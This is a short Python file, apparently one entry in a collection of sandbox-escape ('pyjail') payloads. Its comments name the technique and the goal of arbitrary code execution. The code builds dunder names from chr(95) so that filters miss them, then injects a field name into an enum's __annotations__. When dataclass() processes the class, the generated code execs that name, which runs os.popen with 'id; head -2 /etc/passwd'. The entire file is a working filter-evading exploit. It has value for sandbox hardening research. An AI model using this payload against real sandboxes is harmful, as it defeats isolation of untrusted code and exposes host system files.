# source: enum functional API (EnumType._create_ puts arbitrary keys, dunders included, into the class dict) + dataclasses codegen (_create_fn exec of field names); pyjail "define dunders without def" idea
# family: import-alias of enum.Enum / dataclasses.dataclass - runtime-named class attributes (__annotations__) then dataclass() on that class execs the injected field name
# goal: arbitrary code execution (os.popen: id, /etc/passwd)
from enum import Enum as En
from dataclasses import dataclass as dc

u = chr(95)
payload = "q if print(" + u + u + "import" + u + u + "(" + repr("o" + "s") + ").popen(" + repr("id; head -2 /etc/passwd") + ").read()) else 0"
Side = En("Side", {u + u + "annotations" + u + u: {payload: int}, "BUY": 1})
dc(Side, init=False, repr=False)
print(Side.BUY == Side.BUY)
